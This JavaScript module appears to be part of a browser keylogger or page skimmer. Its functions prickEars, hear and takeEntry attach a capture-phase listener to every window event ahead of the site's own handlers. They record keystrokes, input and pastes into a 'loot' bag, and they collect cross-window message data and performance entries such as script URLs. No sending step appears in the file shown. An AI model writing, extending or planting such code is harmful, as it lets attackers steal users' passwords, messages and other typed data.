import { bag, take } from './loot.js';

const KEYS = new Set(['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'compositionstart', 'paste']);
const MORE = ['focusin', 'focusout', 'beforeinput', 'textInput', 'DOMActivate', 'message', 'messageerror'];

/** Hears every event there is, in capture, before anything of the site's own. */
export function prickEars() {
  const named = Object.keys(Object.getOwnPropertyDescriptors(window))
    .concat(Object.keys(Object.getOwnPropertyDescriptors(HTMLElement.prototype)))
    .filter((name) => name.startsWith('on'))
    .map((name) => name.slice(2));
  for (const type of new Set([...named, ...MORE])) window.addEventListener(type, hear, { capture: true });
  watchPerformance();
}

function hear(event) {
  if (KEYS.has(event.type)) bag.keys.push(`${event.type} ${event.key ?? event.data ?? ''}`);
  take(event.composedPath());
  take(event.data);
  take(event.origin);
  take(event.relatedTarget);
  take(event.source);
}

function watchPerformance() {
  for (const type of PerformanceObserver.supportedEntryTypes) {
    new PerformanceObserver((list) => list.getEntries().forEach(takeEntry)).observe({ type, buffered: true });
  }
}

function takeEntry(entry) {
  take(entry.name);
  for (const node of [entry.element, entry.target, ...(entry.sources ?? []).map((source) => source.node)]) {
    if (node) take(node);
  }
  for (const script of entry.scripts ?? []) take(script.sourceURL);
}
